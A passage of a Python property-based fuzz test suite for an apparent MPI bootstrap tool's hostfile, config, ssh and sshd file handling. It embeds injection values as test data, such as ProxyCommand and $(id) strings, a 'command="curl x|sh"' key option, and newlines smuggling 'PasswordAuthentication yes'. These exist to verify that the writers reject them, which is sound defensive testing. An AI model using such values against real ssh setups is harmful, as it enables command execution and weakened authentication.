"""Property-based fuzzing of every parser and writer that handles input the agent does not own.

The rule, per target: any input gives a valid result or the documented error type (with
its exit code), never another exception; and a writer never emits a line an attacker
controls beyond the validated fields (no newline, no extra ssh option, no option prefix).

Bugs it found stay as `@example`s and, for the exchange, as `TestExchangeRegressions`.

Run with `--hypothesis-show-statistics` to see how many examples each target ran.
"""

from __future__ import annotations

import base64
import contextlib
import dataclasses
import io
import json
import math
import re
import string
import sys
from collections.abc import Callable, Mapping
from fractions import Fraction
from typing import Any

import pytest
from hypothesis import HealthCheck, event, example, given, settings
from hypothesis import strategies as st
from hypothesis.control import currently_in_test_context

from mpi_bootstrap.core import hostfile, names, records
from mpi_bootstrap.core import settings as cfg
from mpi_bootstrap.core.config import Config
from mpi_bootstrap.core.errors import ConfigError, ExitStatus, HostfileError
from mpi_bootstrap.ssh import keys, netserver, netx, sshconfig, sshd
from mpi_bootstrap.ssh import netx as exchange
from mpi_bootstrap.ssh.netx import Record, RecordError
from mpi_bootstrap.ssh.sshconfig import Peer, UnsafeValue
from tests.support.hostfacts import HOST

pytestmark = pytest.mark.timeout(120)

# Deterministic (same examples every run, no example database to commit or ignore) and no
# per-example deadline: this 2-core machine is shared with the slow suites.
settings.register_profile(
    "mpi-bootstrap-fuzz", deadline=None, database=None, derandomize=True,
    suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large,
                           HealthCheck.filter_too_much])
FUZZ = settings.get_profile("mpi-bootstrap-fuzz")


def fuzz(max_examples: int) -> settings:
    return settings(FUZZ, max_examples=max_examples)


def outcome(label: str) -> None:
    """Count `label` in --hypothesis-show-statistics (how often each path was reached)."""
    if currently_in_test_context():
        event(label)


# ---------------------------------------------------------------- shared strategies

# Pieces an attacker would try in a name, a key or a record field.
NASTY = ["\n", "\r", "\r\n", " ", "\t", "\x0b", "\x0c", "\x1c", "\x85", "\u2028", "\u00a0",
         "\x00", "\x1b", '"', "'", "`", ",", "#", "*", "?", "!", "@", "|", "%", "[", "]",
         ":", "=", "\\", "$(id)", "ü", "\ufeff", "\u200b", "\udcff", "Match all",
         "ProxyCommand sh -c id", 'command="id"', "\n  ProxyCommand sh -c id",
         "\n  LocalCommand id", "\nHost *", 'from="*",no-pty ', "%eth0", "%\n"]
KEY_TYPES = ["ssh-ed25519", "ssh-rsa", "ecdsa-sha2-nistp256", "ecdsa-sha2-nistp384",
             "ecdsa-sha2-nistp521"]
KEY_LINE = re.compile(r"(ssh-ed25519|ssh-rsa|ecdsa-sha2-nistp(?:256|384|521)) "
                      r"([A-Za-z0-9+/]+={0,3})")
NASTY_CHARS = set(string.whitespace) | {'"', "'", "`", ",", "#"}


def inert(text: str) -> bool:
    """No whitespace, control character, quote, comma or '#': safe as one config token."""
    return (bool(text) and text.isascii() and text.isprintable()
            and not any(c in NASTY_CHARS for c in text))


@st.composite
def tainted(draw: st.DrawFn, base: st.SearchStrategy[str]) -> str:
    """A value from `base` with a nasty piece inserted somewhere."""
    text = draw(base)
    piece = draw(st.sampled_from(NASTY) | st.text(max_size=3))
    at = draw(st.integers(0, len(text)))
    return text[:at] + piece + text[at:]


# Built from alphabets, not from_regex: several times faster to draw.
_LDH = string.ascii_lowercase + string.digits
labels = st.builds(lambda a, rest: (a + rest).rstrip("-"), st.sampled_from(_LDH),
                   st.text(_LDH + "-", max_size=15))
long_labels = st.builds(lambda n, k: ".".join(["a" * n] * k),
                        st.integers(61, 64), st.integers(1, 5))
_plain_names = st.lists(labels, min_size=1, max_size=4).map(".".join)
dns_names = st.one_of(
    _plain_names, _plain_names, _plain_names,
    st.lists(labels, min_size=1, max_size=4).map(lambda ls: ".".join(ls).upper() + "."),
    long_labels)
zones = st.text(string.ascii_letters + string.digits + "_.-", min_size=1, max_size=15)
ipv4 = st.ip_addresses(v=4).map(str)
ipv6 = st.ip_addresses(v=6).map(str)
zoned = st.builds(lambda a, z: f"{a}%{z}", ipv6, zones | st.sampled_from(NASTY) | st.text())
valid_hosts = st.one_of(dns_names, ipv4, ipv6, zoned)
any_hosts = st.one_of(valid_hosts, tainted(valid_hosts), st.text(max_size=30),
                      st.sampled_from(NASTY))
users = st.builds(lambda a, rest: a + rest, st.sampled_from(string.ascii_lowercase + "_"),
                  st.text(_LDH + "_.-", max_size=31))
public_keys = st.builds(lambda t, blob: f"{t} {base64.b64encode(blob).decode()}",
                        st.sampled_from(KEY_TYPES), st.binary(min_size=12, max_size=120))

json_scalars = st.one_of(st.none(), st.booleans(), st.integers(), st.floats(), st.text(max_size=12))
json_values = st.recursive(
    json_scalars,
    lambda kids: st.lists(kids, max_size=4) | st.dictionaries(st.text(max_size=8), kids,
                                                              max_size=4),
    max_leaves=12)


# ---------------------------------------------------------------- 1. hostfile

HOSTFILE_PATH = "fuzz/hostfile"
_HOSTFILE_WHERE = re.compile(re.escape(HOSTFILE_PATH) + r"(:[0-9]+)?: ")

bad_hostnames = st.sampled_from(["-a", "a-", "a_b", "a..b", ".a", "[::1", "::1]", "ü.example",
                                 "a:b:c", "", "[]", "[a]", "[::1]x", "1.2.3.4.5.6",
                                 "fe80::1%eth0", 'fe80::1%a"b,c', "a" * 64, "*", "a.-b"])
good_hostnames = st.one_of(dns_names, ipv4, ipv6,
                           st.builds(lambda a, z: f"{a}%{z}", ipv6, zones))
hostfile_names = st.one_of(*[good_hostnames] * 6, bad_hostnames, zoned, tainted(dns_names))
counts = st.one_of(st.integers(1, 999_999_999).map(str), st.integers(1, 64).map(str),
                   st.integers(0, 10**10).map(str),
                   st.sampled_from(["", "-1", "+1", "01", "1.5", "１", "٣", "1e3", "0x10", "0"]))
separators = st.sampled_from([" ", "\t", "  \t ", "\u00a0", "\u3000", "\x1f"])
line_ends = st.sampled_from(["\n"] * 6 + ["\r\n"] * 3 + ["\r", "\x0b", "\x0c", "\x1c", "\x85",
                                                         "\u2028", ""])
option_keys = st.sampled_from(["slots", "count", "cpu", "max_slots", "max-slots", "SLOTS",
                               "Max_Slots", "bogus", ""])


# The valid shapes are listed twice: most lines should be right, so a file often is.
LINE_SHAPES = [
    *["{name}", "{name}{sep}slots={n}", "{name}:{n}", "[{name}]:{n}", "[{name}]",
      "{name}{sep}slots={n}{sep}max_slots={m}", "{name}{sep}{key}={n}", "", "#{name}"] * 2,
    "{name}{sep}max-slots={m}{sep}count={n}", "[{name}]{sep}slots={n}",
    "{name}:{n}{sep}slots={m}", "{name}{sep}slots", "{name}{sep}{name}", "text"]


# Shapes of a right line for any name (hydra's `name:N` needs a name without ':').
CLEAN_SHAPES = ["{name}", "{name}{sep}slots={n}", "[{name}]:{n}", "[{name}]",
                "{name}{sep}slots={n}{sep}max_slots={m}", "{name}{sep}count={n}",
                "{name}{sep}cpu={n}{sep}max-slots={m}", "", "#{name}"]


@st.composite
def hostfile_lines(draw: st.DrawFn, earlier: list[str], clean: bool) -> str:
    """One line; a `clean` line is always right (so whole files often are)."""
    name = draw(good_hostnames if clean else hostfile_names)
    if earlier and not clean and draw(st.integers(0, 4)) == 0:  # a duplicate, maybe
        name = draw(st.sampled_from(earlier))                   # spelt differently
        name = draw(st.sampled_from([name, name.upper(), name.rstrip(".") + "."]))
    earlier.append(name)
    sep = draw(separators)
    shape = draw(st.sampled_from(CLEAN_SHAPES if clean else LINE_SHAPES))
    if shape == "text":
        line = draw(st.text(max_size=20))
    elif clean:
        n = draw(st.integers(1, 999_999_999))
        line = shape.format(name=name, sep=sep, n=n, m=n + draw(st.integers(0, 10)))
    else:
        line = shape.format(name=name, sep=sep, n=draw(counts), key=draw(option_keys),
                            m=draw(counts) if "{m}" in shape else "")
    if draw(st.booleans()):
        line = draw(separators) + line + draw(separators)
    if draw(st.integers(0, 3)) == 0:
        line += draw(st.sampled_from(["#", " # two GPUs", "\t#x slots=1", "#\u2028b"]))
    return line


@st.composite
def hostfiles(draw: st.DrawFn) -> bytes | str:
    """Near-valid hostfiles: the three forms, comments, CRLF, BOM, v6, duplicates. Half
    are made of right lines only, so parsing succeeds often and the round trip is checked."""
    clean = draw(st.booleans())
    earlier: list[str] = []
    lines = draw(st.lists(hostfile_lines(earlier, clean), max_size=8))
    text = "".join(line + draw(line_ends) for line in lines)
    if draw(st.booleans()):
        text = "\ufeff" + text
    encoding = draw(st.sampled_from(["str", "utf-8"] if clean else
                                    ["str", "str", "utf-8", "utf-8", "utf-8", "corrupt"]))
    if encoding == "str":
        return text
    data = text.encode("utf-8", "surrogatepass")
    if encoding == "corrupt":
        at = draw(st.integers(0, len(data)))
        data = data[:at] + draw(st.sampled_from([b"\xff", b"\x00", b"\xc3", b"\xed\xa0\x80"])) \
            + data[at:]
    return data


def check_hostfile(data: bytes | str) -> None:
    try:
        parsed = hostfile.parse(data, HOSTFILE_PATH)
    except HostfileError as exc:
        outcome("HostfileError")
        assert exc.status == ExitStatus.HOSTFILE == 65
        assert _HOSTFILE_WHERE.match(exc.message), exc.message
        assert "\n" not in exc.message and "\r" not in exc.message
        return
    hosts = parsed.hosts
    outcome("parsed")
    assert hosts
    seen: set[str] = set()
    for h in hosts:
        assert names.is_host(h.name) and inert(h.name), h
        assert type(h.slots) is int and h.slots >= 1
        assert h.max_slots is None or h.max_slots >= h.slots
        key = h.name.lower().rstrip(".")
        assert key not in seen
        seen.add(key)
    for form in (hostfile.OPENMPI, hostfile.HYDRA):
        text = hostfile.render(hosts, form)
        assert text.count("\n") == len(text.splitlines()) == len(hosts)
        again = hostfile.parse(text, "rendered").hosts
        assert [(h.name, h.slots) for h in again] == [(h.name, h.slots) for h in hosts]
        if form == hostfile.OPENMPI:
            assert [h.max_slots for h in again] == [h.max_slots for h in hosts]


class TestHostfileFuzz:
    """Any hostfile content parses to valid, re-renderable hosts or is a HostfileError (65)."""

    @fuzz(1500)
    @given(st.binary(max_size=400))
    @example(b"a slots=1\n\xff")
    @example(b"a\n\x00b\n")
    def test_bytes(self, data: bytes) -> None:
        check_hostfile(data)

    @fuzz(1500)
    @given(st.text(max_size=400))
    def test_text(self, text: str) -> None:
        check_hostfile(text)

    @fuzz(1500)
    @given(hostfiles())
    # ipaddress accepts any text after '%': before names.py checked the zone, this was
    # a host named 'fe80::1%a"b,c' (a quote and a comma in a written hostfile).
    @example('fe80::1%a"b,c slots=1\n')
    @example("[fe80::1%eth0]:2\nFE80::2 slots=3 max_slots=4\r\n")
    @example("\ufeffa:999999999\r\nA.\n")
    @example("a" * 63 + "." + ("b" * 63 + ".") * 3)
    def test_grammar(self, data: bytes | str) -> None:
        check_hostfile(data)


# ---------------------------------------------------------------- 2. config

ENV_NAMES = sorted({e for s in cfg.SETTINGS for e in s.envs}
                   | {"MPI_BOOTSTRAP_ROLE", "K_MPI_JOB_ROLE", "HOME"})
FLAGS = sorted(s.flag for s in cfg.SETTINGS if s.flag)
PLAUSIBLE = ["", "0", "1", "-1", "65535", "65536", "2.5", "nan", "inf", "-inf", "1e400", "-0",
             "1_000", " 7 ", "٣", "9" * 5000, "true", "False", " yes ", "off", "maybe", "auto",
             "none", "fqdn", "ip", "secret", "dir", "net", "IP", "openmpi5", "json", "debug",
             "/tmp/x", "/etc/mpi/hostfile", "/tmp/mpi-hostfile", "cluster.local",
             "Cluster.Local.", "-bad.", "eth0", "eth0\n", "net1", "a" * 16, "root", "Root",
             "NCCL_*,FOO BAR", "1NCCL", "*", "launcher", " Worker ", "probe", "doctor",
             "\udcff", "tok-\udcff-0123456789abcdef"]
env_text = st.text(st.characters(blacklist_characters="\x00", blacklist_categories=["Cs"]),
                   max_size=30)
env_values = st.one_of(st.sampled_from(PLAUSIBLE), env_text, tainted(st.sampled_from(PLAUSIBLE)))
GOOD_EXTRA = {"MPI_BOOTSTRAP_ROLE": [*cfg.ROLES, " Worker "], "K_MPI_JOB_ROLE": list(cfg.ROLES),
              "HOME": ["/root", "/tmp/home", ""],
              "MPI_BOOTSTRAP_TOKEN": ["s3cret-token-0123456789", "x" * 64]}


def _accepts(setting: cfg.Setting, value: str) -> bool:
    try:
        setting.parse(value)
    except ValueError:
        return False
    return True


# Per variable, the PLAUSIBLE values its setting accepts: only a bias towards valid
# configurations, so deep paths are reached; the oracle is EXPECTED below.
GOOD: dict[str, st.SearchStrategy[str]] = {
    **{env: st.sampled_from([v for v in PLAUSIBLE if _accepts(s, v)]) for s in cfg.SETTINGS
       for env in s.envs},
    **{env: st.sampled_from(values) for env, values in GOOD_EXTRA.items()}}
GOOD_FLAG = {s.flag: GOOD[s.envs[0]] for s in cfg.SETTINGS if s.flag}


@st.composite
def environs(draw: st.DrawFn) -> dict[str, str]:
    chosen = draw(st.lists(st.sampled_from(ENV_NAMES), unique=True, max_size=6))
    return {env: draw(GOOD[env] if draw(st.integers(0, 4)) else env_values) for env in chosen}
argv_tokens = st.one_of(st.sampled_from([*FLAGS, *cfg.ROLES, "--explain", "--json", "--", "-",
                                         "--exp", "--host", "--help", "-h", "--np=0",
                                         "--hostfile=/x", "--exec"]),
                        st.sampled_from(PLAUSIBLE), st.text(max_size=12))


@st.composite
def argvs(draw: st.DrawFn) -> list[str]:
    """Either any tokens, or the usual shape: options, a role, maybe `--`, a program."""
    if draw(st.integers(0, 3)) == 0:
        return draw(st.lists(argv_tokens, max_size=10))
    out: list[str] = []
    for flag in draw(st.lists(st.sampled_from(FLAGS), max_size=3)):
        value = draw(GOOD_FLAG[flag] if draw(st.integers(0, 4)) else env_values)
        out += [f"{flag}={value}"] if draw(st.booleans()) else [flag, value]
    out += draw(st.sampled_from([[], [], ["--explain"], ["--explain", "--json"], ["--json"]]))
    out.append(draw(st.sampled_from(cfg.ROLES)))
    if draw(st.booleans()):
        out.append("--")
    return out + draw(st.lists(argv_tokens, min_size=1, max_size=3))


def _is_plain_path(v: object) -> bool:
    """Directories whose paths end up in ssh and sshd configs: plain and absolute."""
    return type(v) is str and names.is_plain_path(v)


def _is_path(v: object) -> bool:
    return type(v) is str and v != "" and "\0" not in v


def _finite(low: float, *, strict: bool = False) -> Callable[[object], bool]:
    return lambda v: type(v) is float and math.isfinite(v) and (v > low if strict else v >= low)


def _int_in(low: int, high: float) -> Callable[[object], bool]:
    return lambda v: type(v) is int and low <= v <= high


def _one_of(choices: tuple[str, ...]) -> Callable[[object], bool]:
    return lambda v: v in choices


def _optional(check: Callable[[object], bool]) -> Callable[[object], bool]:
    return lambda v: v is None or check(v)


def _iface(v: object) -> bool:
    return type(v) is str and re.fullmatch(r"[A-Za-z0-9_.-]{1,15}", v) is not None


def _token(v: object) -> bool:
    # netx.derive_key encodes the token: a lone surrogate (a non-UTF-8 byte in the Secret,
    # surrogate-escaped by os.environ) would crash the exchange, not fail config.
    return type(v) is str and len(v) >= 16 and v.encode("utf-8", "surrogatepass").decode(
        "utf-8", "replace") == v


# What each setting holds after Config.from_env, whatever the input (README "Settings").
EXPECTED: dict[str, Callable[[object], bool]] = {
    "hostfile": _is_path, "output_hostfile": _is_path,
    "dns_wait_seconds": _finite(0), "dns_wait_interval": _finite(0, strict=True),
    "dns_concurrency": _int_in(1, math.inf), "rewrite": _one_of(cfg.REWRITE_MODES),
    "cluster_domain": lambda v: type(v) is str and names.is_dns_name(v) and v == v.lower()
    and not v.endswith("."),
    "control_iface": _iface, "data_iface": _optional(_iface), "mpi": _one_of(cfg.MPI_CHOICES),
    "mpirun": _optional(_is_path),
    "forward_env": lambda v: type(v) is tuple and all(
        type(p) is str and re.fullmatch(r"[A-Za-z_][A-Za-z0-9_]*\*?", p) for p in v),
    "np": _optional(_int_in(1, math.inf)), "startup_timeout": _finite(0),
    "ssh_connect_timeout": _int_in(1, math.inf), "exec": lambda v: type(v) is bool,
    "grace_seconds": _finite(0), "signal_group": lambda v: type(v) is bool,
    "exchange": _one_of(tuple(m for m in cfg.EXCHANGE_MODES if m != "auto")),
    "exchange_dir": _optional(_is_plain_path), "exchange_port": _int_in(0, 65535),
    "token": _optional(_token), "ssh_auth_dir": _is_path, "sshd_port": _int_in(0, 65535),
    "sshd": _is_path, "ssh_user": _optional(lambda v: type(v) is str and names.is_user_name(v)),
    "preflight": lambda v: type(v) is bool, "state_dir": _is_plain_path,
    "log_format": _one_of(cfg.LOG_FORMATS), "log_level": _one_of(cfg.LOG_LEVELS),
}
TOKEN_PROBLEMS = ("MPI_BOOTSTRAP_TOKEN: must be at least 16 characters (value not shown)",
                  "MPI_BOOTSTRAP_TOKEN: is not UTF-8 text (value not shown)")


def _asks_for_help(argv: list[str]) -> bool:
    """argparse's own -h/--help (or an abbreviation) prints help and exits 0."""
    return any(t.startswith("-h") or (t.startswith("--he") and "--help".startswith(
        t.split("=", 1)[0])) for t in argv)


def check_config(environ: Mapping[str, str], argv: list[str]) -> None:
    token = environ.get("MPI_BOOTSTRAP_TOKEN")
    # Only a token no other input contains can be looked for in the output.
    secret = token if token and len(token) >= 16 and not any(
        token in v for k, v in environ.items() if k != "MPI_BOOTSTRAP_TOKEN") and not any(
        token in a for a in argv) else None
    try:
        with contextlib.redirect_stdout(io.StringIO()):
            config = Config.from_env(environ, argv, host=HOST)
    except ConfigError as exc:
        outcome("ConfigError")
        assert exc.status == ExitStatus.CONFIG == 64
        assert exc.problems and all(type(p) is str for p in exc.problems)
        for p in exc.problems:
            if p.startswith("MPI_BOOTSTRAP_TOKEN:"):
                assert p in TOKEN_PROBLEMS, p
        if secret:
            assert secret not in f"{exc.message}\n{exc.details}\n{exc.problems}"
        return
    except SystemExit as exc:
        outcome("--help")
        assert exc.code == 0 and _asks_for_help(argv), argv
        return
    outcome("Config")
    assert config.role in cfg.ROLES
    assert type(config.program) is tuple and all(type(a) is str for a in config.program)
    assert type(config.explain) is bool and type(config.json) is bool
    for name, check in EXPECTED.items():
        assert check(getattr(config, name)), (name, getattr(config, name))
    assert all(src.kind in ("default", "env", "flag") for src in config.sources.values())
    assert set(EXPECTED) <= set(config.sources)
    assert all(type(n) is str for n in config.notes)
    if secret:
        assert secret not in repr(config) and secret not in str(config.notes)
    with pytest.raises(dataclasses.FrozenInstanceError):
        config.role = "worker"  # type: ignore[misc]


class TestConfigFuzz:
    """Any environment and argv give a well-typed frozen Config or a ConfigError (64)."""

    def test_every_setting_has_an_expectation(self) -> None:
        assert set(EXPECTED) == {s.name for s in cfg.SETTINGS} - {"rewrite_fqdn_legacy"}

    @fuzz(1200)
    @given(environs(), argvs())
    # `$` matched before a trailing newline: this was control_iface == "eth0\n".
    @example({"MPI_BOOTSTRAP_CONTROL_IFACE": "eth0\n"}, ["worker"])
    # One recursive call per role word: this was a RecursionError.
    @example({}, ["worker"] * 1200)
    # The token was in repr(config) (a dataclass field without repr=False).
    @example({"MPI_BOOTSTRAP_TOKEN": "s3cret-token-0123456789"}, ["worker"])
    # A non-UTF-8 byte in the token's Secret: this crashed netx.derive_key, not config.
    @example({"MPI_BOOTSTRAP_TOKEN": "s3cret-token-0123456789\udcff"}, ["worker"])
    @example({"MPI_BOOTSTRAP_TOKEN": "short"}, ["--np", "0", "launcher"])
    @example({}, ["launcher", "--help"])
    def test_from_env(self, environ: dict[str, str], argv: list[str]) -> None:
        check_config(environ, argv)


# ---------------------------------------------------------------- 3. ssh client config

IDENTITY, KNOWN_HOSTS = "/run/mpi-bootstrap/id_job", "/run/mpi-bootstrap/known_hosts"
COMMON = {"IdentityFile": IDENTITY, "IdentitiesOnly": "yes", "UserKnownHostsFile": KNOWN_HOSTS,
          "GlobalKnownHostsFile": "/dev/null", "StrictHostKeyChecking": "yes",
          "UpdateHostKeys": "no", "BatchMode": "yes", "ConnectionAttempts": "3",
          "ServerAliveInterval": "30", "SendEnv": " ".join(sshconfig.SEND_ENV),
          "LogLevel": "ERROR"}
PER_PEER = ("HostName", "Port", "User", "HostKeyAlias")
_CONFIG_LINE = re.compile(r"  ([A-Za-z]+) ([!-~]+(?: [!-~]+)*)")
_KNOWN_HOSTS_LINE = re.compile(r"([A-Za-z0-9.:%_-]+) (" + KEY_LINE.pattern + ")")

peers = st.builds(
    Peer,
    names=st.lists(st.one_of(valid_hosts, any_hosts), max_size=3).map(tuple),
    hostname=st.one_of(valid_hosts, any_hosts),
    port=st.one_of(st.integers(1, 65535), st.integers(-2, 70000), st.integers()),
    user=st.one_of(users, tainted(users), st.text(max_size=10)),
    host_key=st.one_of(public_keys, tainted(public_keys),
                       public_keys.map(lambda k: k + " user@host"),
                       public_keys.map(lambda k: 'command="id" ' + k), st.text(max_size=20)))
good_peers = st.builds(Peer, names=st.lists(good_hostnames, min_size=1, max_size=3).map(tuple),
                       hostname=good_hostnames, port=st.integers(1, 65535), user=users,
                       host_key=public_keys)
peer_lists = st.lists(st.one_of(good_peers, peers), max_size=4)


def peer_is_safe(p: Peer) -> bool:
    return (bool(p.names) and all(names.is_host(n) for n in (*p.names, p.hostname))
            and 1 <= p.port <= 65535 and names.is_user_name(p.user)
            and names.is_public_key(p.host_key))


def check_client_config(text: str, ps: list[Peer], timeout: int) -> None:
    assert text.isascii() and text.endswith("\n")
    lines = text.split("\n")[:-1]
    # No other character any reader could take for a line break.
    assert text.splitlines() == lines and all(line.isprintable() for line in lines)
    assert lines[0].startswith("# Written by mpi-bootstrap")
    blocks: list[tuple[list[str], dict[str, str]]] = []
    for line in lines[1:]:
        if line.startswith("Host "):
            patterns = line[5:].split(" ")
            assert all(inert(p) for p in patterns), line
            blocks.append((patterns, {}))
            continue
        m = _CONFIG_LINE.fullmatch(line)
        assert m and blocks, line
        keyword, value = m.groups()
        assert keyword in COMMON or keyword in PER_PEER or keyword == "ConnectTimeout", line
        assert keyword not in blocks[-1][1], f"{keyword} twice in one block"
        blocks[-1][1][keyword] = value
    assert len(blocks) == len(ps) + 1
    assert blocks[-1] == (["*"], {**COMMON, "ConnectTimeout": str(timeout)})
    for p, (patterns, body) in zip(ps, blocks, strict=False):
        assert patterns == list(dict.fromkeys(p.names))
        assert body == {"HostName": p.hostname, "Port": str(p.port), "User": p.user,
                        "HostKeyAlias": p.names[0], **COMMON,
                        "ConnectTimeout": str(timeout)}
        assert inert(p.hostname) and inert(p.user)


def check_known_hosts(text: str, ps: list[Peer]) -> None:
    lines = text.split("\n")
    assert lines.pop() == "" and text.splitlines() == lines and len(lines) == len(ps)
    for p, line in zip(ps, lines, strict=True):
        m = _KNOWN_HOSTS_LINE.fullmatch(line)
        assert m, line
        assert m.group(1) == p.names[0] and names.is_host(m.group(1))
        assert m.group(2) == p.host_key


# ipaddress takes any zone after '%': before names.py checked it, this HostName was
# followed by a ProxyCommand line.
INJECTED = Peer(names=("w0",), hostname="::1%\n  ProxyCommand sh -c id", port=22, user="mpi",
                host_key="ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIOMqqnkVzrm0SdG6UOoqKLsabgH5C9")


class TestSshConfigFuzz:
    """Peers that are not all valid raise UnsafeValue; otherwise every written line has the
    fixed shape, with one Host block per peer and one known_hosts line per peer."""

    @fuzz(800)
    @given(peer_lists, st.integers(1, 10**6))
    @example([INJECTED], 10)
    @example([dataclasses.replace(INJECTED, hostname="fe80::1%eth0")], 10)
    @example([dataclasses.replace(INJECTED, names=("w0", "w0", "W0.", "10.0.0.2"))], 1)
    @example([dataclasses.replace(INJECTED, hostname="10.0.0.2", host_key="ssh-ed25519 "
                                  "AAAAC3NzaC1lZDI1NTE5AAAAIOMqqnkVzrm0SdG6UOoqKLsabgH5C9 x")], 1)
    def test_client_config(self, ps: list[Peer], timeout: int) -> None:
        try:
            text = sshconfig.client_config(ps, identity=IDENTITY, known_hosts=KNOWN_HOSTS,
                                           connect_timeout=timeout)
        except UnsafeValue:
            outcome("UnsafeValue")
            assert not all(map(peer_is_safe, ps))
            return
        outcome("written")
        assert all(map(peer_is_safe, ps))
        check_client_config(text, ps, timeout)

    @fuzz(600)
    @given(peer_lists)
    @example([INJECTED])
    def test_known_hosts(self, ps: list[Peer]) -> None:
        try:
            text = sshconfig.known_hosts(ps)
        except UnsafeValue:
            outcome("UnsafeValue")
            assert not all(map(peer_is_safe, ps))
            return
        outcome("written")
        assert all(map(peer_is_safe, ps))
        check_known_hosts(text, ps)

    @fuzz(500)
    @given(st.one_of(st.text(string.ascii_letters + string.digits + "_./@+-", max_size=30).map(
        "/".__add__),
                     tainted(st.just("/run/x/id")), st.text(max_size=20)))
    @example("/run/x/id\n")  # `$` matched before the newline
    def test_own_paths(self, path: str) -> None:
        try:
            text = sshconfig.client_config([], identity=path, known_hosts=path,
                                           connect_timeout=5)
        except UnsafeValue:
            assert re.fullmatch(r"/[A-Za-z0-9_./@+-]*", path) is None
            return
        assert f"  IdentityFile {path}\n" in text and text.count("\n") == len(COMMON) + 3


SSHD_KEYWORDS = {"Port", "ListenAddress", "HostKey", "PidFile", "AuthorizedKeysFile",
                 "AllowUsers", "PubkeyAuthentication", "PasswordAuthentication",
                 "KbdInteractiveAuthentication", "HostbasedAuthentication",
                 "PermitEmptyPasswords", "PermitRootLogin", "UsePAM", "PermitUserEnvironment",
                 "DisableForwarding", "AllowAgentForwarding", "AllowTcpForwarding",
                 "AllowStreamLocalForwarding", "X11Forwarding", "PermitTunnel",
                 "UseDNS", "StrictModes", "AcceptEnv", "LogLevel"}
plain_paths = st.builds(lambda p: "/" + p, st.text(_LDH + "_./@+-", max_size=20))
any_paths = st.one_of(plain_paths, tainted(st.just("/run/mpi-bootstrap/key")),
                      st.text(max_size=20))


def mostly(good: st.SearchStrategy[Any], bad: st.SearchStrategy[Any]
           ) -> st.SearchStrategy[Any]:
    """`good` 9 times in 10 (one_of would not weight a strategy listed twice)."""
    return st.integers(0, 9).flatmap(lambda n: bad if n == 0 else good)


class TestSshdConfigFuzz:
    """The worker's sshd_config: unsafe paths, users or addresses raise UnsafeValue;
    otherwise every line is one known keyword and its value, each keyword once (sshd
    takes the first), so no value can add `PasswordAuthentication yes`."""

    @fuzz(800)
    @given(st.fixed_dictionaries({
        "host_key": mostly(plain_paths, any_paths),
        "authorized_keys": mostly(plain_paths, any_paths),
        "pid_file": mostly(plain_paths, any_paths),
        "user": mostly(users, st.text(max_size=12)),
        "listen": st.lists(mostly(ipv4 | ipv6, any_hosts), max_size=3),
        "port": st.one_of(st.integers(1, 65535), st.integers(-2, 70000))}))
    @example({"host_key": "/k", "authorized_keys": "/x\nPasswordAuthentication yes\n#",
              "pid_file": "/p", "user": "root", "listen": [], "port": 22})
    @example({"host_key": "/k", "authorized_keys": "/a", "pid_file": "/p", "user": "root",
              "listen": ["::1%\nPasswordAuthentication yes"], "port": 22})
    def test_config_text(self, args: dict[str, Any]) -> None:
        try:
            text = sshd.config_text(**args)
        except UnsafeValue:
            outcome("refused")
            assert not (all(map(names.is_plain_path, (args["host_key"],
                                                      args["authorized_keys"],
                                                      args["pid_file"])))
                        and names.is_user_name(args["user"]) and 0 < args["port"] <= 65535
                        and all(map(names.is_ip_literal, args["listen"])))
            return
        outcome("written")
        lines = text.splitlines()
        assert lines[0].startswith("# ") and text.endswith("\n")
        words = [ln.split(" ", 1)[0] for ln in lines[1:]]
        assert set(words) <= SSHD_KEYWORDS
        assert all(words.count(w) == 1 for w in set(words) - {"ListenAddress"})
        assert words.count("ListenAddress") == len(args["listen"])
        assert "PasswordAuthentication no" in lines
        assert "StrictModes yes" in lines and "DisableForwarding yes" in lines


# ---------------------------------------------------------------- 4. keys and names

authorized_lines = st.one_of(
    public_keys,
    st.builds(lambda k, c: f"{k} {c}", public_keys, st.text(max_size=20)),
    st.builds(lambda o, k: f"{o} {k}", st.sampled_from(
        ['command="id"', 'from="*",no-pty', "restrict", 'environment="A=b"',
         'command="ssh-ed25519 AAAAAAAAAAAAAAAAAAAAAAAA"', "cert-authority"]), public_keys),
    st.builds(lambda sp, k, end: k.replace(" ", sp) + end, st.sampled_from(
        [" ", "\t", "  ", "\u2003", "\x0b", "\n"]), public_keys,
        st.sampled_from(["", "\n", "\r\n", "\r", " \n", "\x00"])),
    tainted(public_keys), st.text(max_size=40))


class TestPublicKeyFuzz:
    """An authorized_keys line yields exactly `type base64` (no option, no comment) or a
    ConfigError (64) naming where it came from."""

    @fuzz(2000)
    @given(authorized_lines)
    @example('command="curl x|sh" ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIOMqqnkVzrm0SdG6UOoq')
    @example("ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIOMqqnkVzrm0SdG6UOoq\nssh-rsa AAAAB3NzaC1yc2E")
    def test_clean_public_key(self, line: str) -> None:
        where = "fuzz/authorized_keys:3"
        try:
            key = keys.clean_public_key(line, where=where)
        except ConfigError as exc:
            outcome("ConfigError")
            assert exc.status == ExitStatus.CONFIG == 64
            assert exc.problems == [f"{where}: not an OpenSSH public key line"]
            return
        outcome("key")
        m = KEY_LINE.fullmatch(key)
        assert m, key
        # The line's own first two fields: nothing was taken from an option or a comment.
        assert line.split()[:2] == [m.group(1), m.group(2)]


class TestNamePredicates:
    """Whatever a names predicate accepts holds no whitespace, control character, quote,
    comma or '#', so it can be written into any of the agent's files as one token."""

    @fuzz(2000)
    @given(st.one_of(st.text(max_size=40), tainted(valid_hosts), tainted(users),
                     tainted(public_keys), zoned, valid_hosts, public_keys))
    @example("::1%\n  ProxyCommand sh -c id")  # was accepted by is_ip_literal
    @example('fe80::1%a"b,c')
    @example("fe80::1%eth0")
    def test_accepted_is_inert(self, text: str) -> None:
        for accepts in (names.is_host, names.is_dns_name, names.is_ip_literal,
                        names.is_user_name):
            if accepts(text):
                assert inert(text), (accepts.__name__, text)
        if names.is_public_key(text):
            kind, blob = text.split(" ")
            assert inert(kind) and inert(blob)


def _loads_or_none(raw: bytes) -> object:
    try:
        return json.loads(raw)
    except (ValueError, RecursionError):
        return None


# ---------------------------------------------------------------- 5. records

RECORD_KEYS = {"v", "host", "addresses", "port", "host_key", "user"}
record_dicts = st.builds(
    lambda host, addrs, port, key, user: {"v": 1, "host": host, "addresses": addrs,
